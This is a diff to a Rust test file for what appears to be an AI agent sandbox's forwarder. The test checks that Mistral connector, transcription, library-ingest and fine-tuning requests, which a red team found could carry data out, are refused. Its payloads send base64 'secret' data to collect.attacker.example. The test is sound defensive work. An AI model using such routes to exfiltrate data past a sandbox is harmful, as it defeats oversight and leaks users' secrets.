@@ -155,6 +155,51 @@ fn fetching_request(api: &str) -> (&'static str, String, String) {
     }
 }
 
+/// Mistral's other endpoints take a URL where the body check does not look, or act on a server
+/// registered earlier (found by a red team): a registered connector's tool called directly,
+/// audio transcribed from a `file_url` form field, a library document ingested from a signed
+/// URL, a fine-tuning job reporting to an integration. Its route forwards what Mistral Vibe asks
+/// for alone; each of these is refused with the policy key that allows it, and the mock never
+/// sees one. The controls: a chat completion passes, and with `remote_tools: allow` for Mistral
+/// the transcription reaches the API.
+#[tokio::test]
+async fn mistrals_endpoints_beyond_the_completions_are_refused_by_the_forwarder() -> anyhow::Result<()> {
+    let url = "https://collect.attacker.example/a.mp3?d=c2VjcmV0";
+    let attacks = [
+        ("/v1/connectors/their_mcp/tools/send/call", r#"{"arguments":{"data":"c2VjcmV0"}}"#.to_string()),
+        (
+            "/v1/audio/transcriptions",
+            format!("--b\r\nContent-Disposition: form-data; name=\"file_url\"\r\n\r\n{url}\r\n--b--\r\n"),
+        ),
+        (
+            "/v1/libraries/l/documents/ingest-from-blob-storage",
+            r#"{"filename":"a.pdf","signed_url":"x"}"#.to_string(),
+        ),
+        (
+            "/v1/fine_tuning/jobs",
+            r#"{"model":"m","integrations":[{"type":"wandb","project":"c2VjcmV0"}]}"#.to_string(),
+        ),
+    ];
+    let (_net, mock, sb, _dir) = every_api("attack-fwd-mistral", "version: 1\nallow: none\n").await?;
+    for (path, body) in &attacks {
+        let (status, why) = post(&sb, "15104", path, body).await?;
+        assert!(status.starts_with("HTTP/1.1 403"), "{path}: {status} {why}");
+        assert!(why.contains("apis: {mistral: {remote_tools: allow}}"), "{path}: {why}");
+    }
+    assert!(!mock.log().await?.iter().any(|l| l.starts_with("http ")), "a request reached the API");
+    let (path, _, plain) = fetching_request("mistral");
+    let (status, _) = post(&sb, "15104", path, &plain).await?;
+    assert!(status.starts_with("HTTP/1.1 200"), "the control: {status}");
+    let allow = "version: 1\napis:\n  mistral:\n    remote_tools: allow\n";
+    let (_net, mock, sb, _dir) = every_api("attack-fwd-mistral-allow", allow).await?;
+    let (path, body) = &attacks[1];
+    let (status, why) = post(&sb, "15104", path, body).await?;
+    assert!(!status.starts_with("HTTP/1.1 403"), "allowed by the policy: {status} {why}");
+    let log = mock.log().await?;
+    assert!(log.iter().any(|l| l.contains(&format!("path={path} "))), "{log:?}");
+    Ok(())
+}
+
 /// With the user's key, the provider's own servers would fetch a URL the request names (a
 /// remote MCP server, Anthropic's web fetch, Gemini's URL context), carrying what the agent put
 /// in it past every allowlist. The forwarder reads each body and refuses such a request with
